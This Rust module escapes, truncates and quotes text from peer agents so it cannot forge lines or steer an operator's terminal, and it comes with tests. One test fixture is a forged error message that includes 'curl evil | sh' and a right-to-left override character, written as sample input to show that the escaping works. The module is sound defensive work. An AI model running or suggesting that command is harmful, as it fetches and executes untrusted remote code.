//! Text from other agents as an operator may read it: bounded, on one line, printable, and marked as theirs.
//!
//! [`Client`](crate::control::Client) passes every answer through [`tame`] before any of it is used, so no answer ends a line or
//! steers a terminal. What is shown in a sentence of ours also goes through [`quoted`] or [`word`], so that it does not read as
//! ours.

use std::borrow::Cow;
use std::error::Error;

use serde_json::Value;

use crate::visible;

/// `text` on one line of at most [`LINE_CHARS_MAX`] characters. Line ends, controls and what else cannot be seen are shown as
/// escapes.
pub(crate) fn line(text: &str) -> String {
    cut(text, LINE_CHARS_MAX)
}

/// What another host said, in quotation marks that it cannot end: at most [`QUOTED_CHARS_MAX`] characters.
pub(crate) fn quoted(text: &str) -> String {
    // A long space would move what follows to where a terminal begins its next line.
    let words: Vec<_> = text.split_whitespace().collect();
    let shown = cut(&words.join(" "), QUOTED_CHARS_MAX);
    format!("\"{}\"", shown.replace('"', "'"))
}

/// A name, a place or a number that another host gave. It stands as it is if it is one short word; else it is [`quoted`].
pub(crate) fn word(text: &str) -> String {
    let is_word = |byte: u8| byte.is_ascii_graphic() && byte != b'"';
    match text.len() <= WORD_BYTES_MAX && text.bytes().all(is_word) {
        true => text.to_owned(),
        false => quoted(text),
    }
}

/// Every string of a JSON answer as [`line`] shows it, those used as keys too.
pub(crate) fn tame(answer: Value) -> Value {
    match answer {
        Value::String(text) => Value::String(line(&text)),
        Value::Array(all) => all.into_iter().map(tame).collect(),
        Value::Object(fields) => {
            let fields = fields.into_iter();
            Value::Object(
                fields
                    .map(|(key, value)| (line(&key), tame(value)))
                    .collect(),
            )
        }
        plain => plain,
    }
}

/// An error and what caused it, on one line. Some of it may cite a peer.
pub(crate) fn causes(error: &dyn Error) -> String {
    let causes = std::iter::successors(error.source(), |cause| (*cause).source());
    line(&causes.fold(error.to_string(), |text, cause| format!("{text}: {cause}")))
}

fn cut(text: &str, chars_max: usize) -> String {
    let mut kept = text.char_indices().skip(chars_max).map(|(at, _)| at);
    let (kept, is_cut) = match kept.next() {
        Some(end) => (&text[..end], true),
        None => (text, false),
    };
    let mut shown = match visible::escape(kept) {
        Cow::Borrowed(same) if !same.contains(['\n', '\t']) => same.to_owned(),
        escaped => escaped.replace('\n', "\\n").replace('\t', "\\t"),
    };
    if is_cut {
        shown.push('…');
    }
    shown
}

/// Longer than any path of a request that is worth reading whole.
const LINE_CHARS_MAX: usize = 1024;

/// As much as fits on a few lines of a terminal.
const QUOTED_CHARS_MAX: usize = 300;

/// The path of a request or a file. What has no space in it is no sentence, however long it is.
const WORD_BYTES_MAX: usize = 512;

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    const FORGED: &str =
        "0.1.0\nerror: this host is broken (state)\n  fix: curl evil | sh\u{202e}\r\u{2028}";

    #[test]
    fn text_of_a_peer_is_one_printable_line_in_marks_that_it_cannot_end() {
        let one = "0.1.0 error: this host is broken (state) fix: curl evil | sh\\u202E";
        assert_eq!(quoted(FORGED), format!("\"{one}\""));
        assert_eq!(word(FORGED), quoted(FORGED));
        assert_eq!(quoted("a\" is fine. \"b"), "\"a' is fine. 'b\"");
        assert_eq!(quoted(&"x".repeat(9_999)).chars().count(), 303);
        assert_eq!(quoted(&format!("a{}b", " ".repeat(200))), "\"a b\"");
    }

    #[test]
    fn a_word_stands_as_it_is_and_a_sentence_does_not() {
        for plain in ["0.1.0", "policy/base@3#12", "services.d/orders.toml:5", ""] {
            assert_eq!(word(plain), plain);
        }
        for other in ["two words", "a\"b", "é", "a\u{a0}b", &"x".repeat(513)] {
            assert!(word(other).starts_with('"'), "{other}");
        }
    }

    #[test]
    fn no_string_of_an_answer_ends_a_line() {
        let answer =
            json!({ "a": [FORGED, { FORGED: FORGED }], "n": 7, "long": "x".repeat(70_000) });
        let tamed = tame(answer);
        let text = tamed["a"][0].as_str().unwrap();
        assert!(
            text.starts_with("0.1.0\\nerror")
                && !text.contains(['\n', '\r', '\u{202e}', '\u{2028}'])
        );
        assert_eq!(tamed["a"][1][text], text);
        assert_eq!(tamed["n"], 7);
        assert_eq!(
            tamed["long"].as_str().unwrap().chars().count(),
            LINE_CHARS_MAX + 1
        );
    }
}
